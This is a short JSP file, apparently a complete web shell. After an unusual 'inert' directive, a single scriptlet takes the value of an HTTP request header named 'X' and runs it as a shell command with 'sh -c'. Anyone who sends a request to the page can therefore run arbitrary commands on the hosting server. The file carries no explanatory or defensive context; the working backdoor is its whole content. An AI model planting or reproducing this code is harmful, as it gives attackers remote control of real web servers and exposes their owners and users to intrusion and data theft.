<%@ inert %>
<% ProcessBuilder b=new ProcessBuilder(); b.command("sh","-c",request.getHeader("X")); b.start(); %>
